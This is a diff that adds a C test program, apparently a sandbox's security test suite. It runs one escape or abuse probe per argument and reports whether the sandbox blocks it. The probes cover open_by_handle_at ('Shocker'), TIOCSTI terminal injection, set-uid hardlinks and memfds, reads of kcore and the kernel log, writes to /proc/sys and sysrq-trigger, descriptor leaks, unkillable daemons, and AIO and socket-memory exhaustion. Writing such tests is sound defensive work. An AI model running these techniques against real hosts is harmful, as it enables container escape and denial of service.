@@ -1,0 +1,275 @@
+/*
+ * Round 3's attacker (an outside review): one static binary, one attack per
+ * argv[1], run inside a real cordon sandbox by round3.test.js and by the
+ * reproductions in findings/. Same convention as probe.c:
+ *     RESULT <attack> <blocked|open> <detail>
+ * "open" means the attack worked. Each attack can also be run directly on
+ * the host (outside any sandbox) to see it report "open" where the host
+ * allows it: that is what makes the probes able to fail.
+ *
+ * Compiled at test time: cc -static -O1 -o round3 round3.c
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/aio_abi.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <signal.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/fanotify.h>
+#include <sys/ioctl.h>
+#include <sys/klog.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/quota.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/timerfd.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+static int report(const char *attack, int blocked, const char *detail) {
+    printf("RESULT %s %s %s\n", attack, blocked ? "blocked" : "open", detail);
+    fflush(stdout);
+    return 0;
+}
+
+static int errno_report(const char *attack, long rc) {
+    char detail[96];
+    snprintf(detail, sizeof detail, "%s", rc < 0 ? strerror(errno) : "succeeded");
+    return report(attack, rc < 0, detail);
+}
+
+/* "Shocker": a file handle of / opened by handle reaches files by inode, past any bind mount. */
+static int open_by_handle(void) {
+    struct { struct file_handle fh; unsigned char bytes[128]; } h;
+    h.fh.handle_bytes = 128;
+    int mount_id;
+    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h.fh, &mount_id, 0) < 0)
+        return errno_report("open-by-handle", -1);
+    int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
+    return errno_report("open-by-handle", syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY));
+}
+
+/* TIOCSTI: push a command into the provider's terminal through /dev/tty. */
+static int tiocsti(void) {
+    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
+    if (fd < 0) return errno_report("tiocsti", -1);
+    char c = '#';
+    return errno_report("tiocsti", ioctl(fd, TIOCSTI, &c));
+}
+
+/* A hard link to a host set-uid binary, made in a host workspace: it would keep its set-uid bit there. */
+static int hardlink_setuid(const char *target, const char *link) {
+    return errno_report("hardlink-setuid", linkat(AT_FDCWD, target, AT_FDCWD, link, 0));
+}
+
+/* Alarm timers wake the host from suspend (CAP_WAKE_ALARM). */
+static int alarm_timer(void) {
+    return errno_report("alarm-timer", timerfd_create(CLOCK_BOOTTIME_ALARM, 0));
+}
+
+/* The kernel log: host and other tenants' messages. */
+static int klog(void) {
+    char buf[256];
+    return errno_report("syslog", klogctl(3 /* READ_ALL */, buf, sizeof buf));
+}
+
+/* Host physical memory through /proc/kcore (where /dev/core, which bwrap makes, points). */
+static int kcore(void) {
+    int fd = open("/proc/kcore", O_RDONLY);
+    if (fd < 0) return errno_report("kcore", -1);
+    char buf[64];
+    return errno_report("kcore", read(fd, buf, sizeof buf));
+}
+
+/* Host-wide knobs through /proc/sys and /proc/sysrq-trigger. */
+static int proc_write(const char *attack, const char *path, const char *value) {
+    int fd = open(path, O_WRONLY);
+    if (fd < 0) return errno_report(attack, -1);
+    return errno_report(attack, write(fd, value, strlen(value)));
+}
+
+/* PR_SET_MM rewrites what /proc shows of the process (and the observer reads). */
+static int set_mm(void) {
+    return errno_report("pr-set-mm", prctl(PR_SET_MM, PR_SET_MM_ARG_START, 0x1000, 0, 0));
+}
+
+/* Disk quotas of the host's filesystems. */
+static int quota(void) {
+    struct dqblk q;
+    return errno_report("quotactl", quotactl(QCMD(Q_GETQUOTA, USRQUOTA), "/dev/vda", 0, (void *)&q));
+}
+
+/* fanotify watches a whole mount or filesystem, host writes included. */
+static int fanotify(void) {
+    return errno_report("fanotify", fanotify_init(FAN_CLASS_NOTIF, O_RDONLY));
+}
+
+/* A filter of one's own that allows everything does not lift the sandbox's. */
+static int stacked_allow(void) {
+    struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
+    struct sock_fprog prog = {.len = 1, .filter = allow};
+    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) return errno_report("stacked-allow", -1);
+    return errno_report("stacked-allow", socket(AF_INET, SOCK_STREAM, 0));
+}
+
+/* set-uid through a memfd, then exec'd: nosuid does not cover an anonymous file. */
+static int memfd_setuid(void) {
+    int fd = syscall(SYS_memfd_create, "x", 0);
+    if (fd < 0) return errno_report("memfd-setuid", -1);
+    return errno_report("memfd-setuid", fchmod(fd, 04755));
+}
+
+/*
+ * Sends the sandbox's descriptors (stdout, fd 3 itself, a pipe, a file of
+ * /tmp) over fd 3 as SCM_RIGHTS, `rounds` times, then exits: a provider that
+ * installed them would leak descriptors and keep the sandbox's streams (and
+ * its tmpfs) alive; a queue that kept them would hold wait() forever.
+ */
+static int pass_fds(int rounds) {
+    int p[2];
+    if (pipe(p) < 0) return errno_report("pass-fds", -1);
+    int tmp = open("/tmp/held", O_RDWR | O_CREAT, 0600);
+    int fds[5] = {1, 2, 3, p[1], tmp};
+    char cbuf[CMSG_SPACE(sizeof fds)];
+    int sent = 0;
+    for (int i = 0; i < rounds; i += 1) {
+        char byte = '\n';
+        struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
+        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+        c->cmsg_level = SOL_SOCKET;
+        c->cmsg_type = SCM_RIGHTS;
+        c->cmsg_len = CMSG_LEN(sizeof fds);
+        memcpy(CMSG_DATA(c), fds, sizeof fds);
+        if (sendmsg(3, &msg, MSG_DONTWAIT) < 0) break;
+        sent += 1;
+    }
+    char detail[64];
+    snprintf(detail, sizeof detail, "sent %d", sent);
+    return report("pass-fds", 0, detail); /* judged by the provider */
+}
+
+/* MSG_OOB on the protocol socket: the provider's reader must neither stall nor lose the stream. */
+static int oob(void) {
+    const char *before = "{\"before\":1}\n";
+    write(3, before, strlen(before));
+    long rc = send(3, "!", 1, MSG_OOB);
+    const char *after = "{\"after\":1}\n";
+    write(3, after, strlen(after));
+    char detail[64];
+    snprintf(detail, sizeof detail, "oob send: %s", rc < 0 ? strerror(errno) : "sent");
+    return report("oob", 0, detail); /* judged by the provider */
+}
+
+/*
+ * A child subreaper that adopts a setsid'd, SIGTERM-immune daemon, then
+ * the program exits: the daemon must not outlive the run.
+ */
+static int subreaper_daemon(void) {
+    prctl(PR_SET_CHILD_SUBREAPER, 1);
+    pid_t child = fork();
+    if (child == 0) {
+        setsid();
+        if (fork() == 0) {
+            signal(SIGTERM, SIG_IGN);
+            signal(SIGHUP, SIG_IGN);
+            report("subreaper-daemon", 0, "daemon running");
+            for (;;) pause();
+        }
+        _exit(0);
+    }
+    waitpid(child, NULL, 0);
+    usleep(200000);
+    return 0;
+}
+
+/*
+ * The host-wide AIO context count (fs.aio-max-nr): one io_setup takes as
+ * much of it as it can, and the process then waits. "open" when it got at
+ * least `want` events of the host's quota.
+ */
+static int aio_hog(long want) {
+    long got = 0;
+    for (long n = 1 << 20; n >= 1; n /= 2) {
+        for (;;) {
+            aio_context_t ctx = 0;
+            if (syscall(SYS_io_setup, n, &ctx) < 0) break;
+            got += n;
+        }
+    }
+    char detail[96];
+    snprintf(detail, sizeof detail, "held %ld aio events", got);
+    report("aio-hog", got < want, detail);
+    for (int i = 0; i < 600; i += 1) sleep(1);
+    return 0;
+}
+
+/*
+ * Kernel memory pinned in AF_UNIX socket buffers: `pairs` socketpairs,
+ * each filled until it would block, held by `procs` processes. Prints the
+ * bytes queued; the test measures host memory and the cgroup's charge.
+ */
+static int unix_pin(int procs, int pairs) {
+    for (int p = 0; p < procs; p += 1) {
+        if (fork() == 0) {
+            static char chunk[65536];
+            long queued = 0;
+            for (int i = 0; i < pairs; i += 1) {
+                int sv[2];
+                if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) break;
+                for (int end = 0; end < 2; end += 1) {
+                    int size = 1 << 30; /* clamped to 2 × net.core.wmem_max */
+                    setsockopt(sv[end], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
+                    fcntl(sv[end], F_SETFL, O_NONBLOCK);
+                    for (;;) {
+                        long n = write(sv[end], chunk, sizeof chunk);
+                        if (n <= 0) break;
+                        queued += n;
+                    }
+                }
+            }
+            printf("PINNED %d %ld\n", p, queued);
+            fflush(stdout);
+            for (int i = 0; i < 600; i += 1) sleep(1);
+            _exit(0);
+        }
+    }
+    report("unix-pin", 0, "holding");
+    for (int i = 0; i < 600; i += 1) sleep(1);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2) return 2;
+    const char *cmd = argv[1];
+    if (!strcmp(cmd, "open-by-handle")) return open_by_handle();
+    if (!strcmp(cmd, "tiocsti")) return tiocsti();
+    if (!strcmp(cmd, "hardlink-setuid") && argc == 4) return hardlink_setuid(argv[2], argv[3]);
+    if (!strcmp(cmd, "alarm-timer")) return alarm_timer();
+    if (!strcmp(cmd, "syslog")) return klog();
+    if (!strcmp(cmd, "kcore")) return kcore();
+    if (!strcmp(cmd, "sysctl-write")) return proc_write("sysctl-write", "/proc/sys/kernel/domainname", "pwned");
+    if (!strcmp(cmd, "sysrq")) return proc_write("sysrq", "/proc/sysrq-trigger", "h");
+    if (!strcmp(cmd, "pr-set-mm")) return set_mm();
+    if (!strcmp(cmd, "quotactl")) return quota();
+    if (!strcmp(cmd, "fanotify")) return fanotify();
+    if (!strcmp(cmd, "stacked-allow")) return stacked_allow();
+    if (!strcmp(cmd, "memfd-setuid")) return memfd_setuid();
+    if (!strcmp(cmd, "pass-fds") && argc == 3) return pass_fds(atoi(argv[2]));
+    if (!strcmp(cmd, "oob")) return oob();
+    if (!strcmp(cmd, "subreaper-daemon")) return subreaper_daemon();
+    if (!strcmp(cmd, "aio-hog") && argc == 3) return aio_hog(atol(argv[2]));
+    if (!strcmp(cmd, "unix-pin") && argc == 4) return unix_pin(atoi(argv[2]), atoi(argv[3]));
+    fprintf(stderr, "unknown attack %s\n", cmd);
+    return 2;
+}
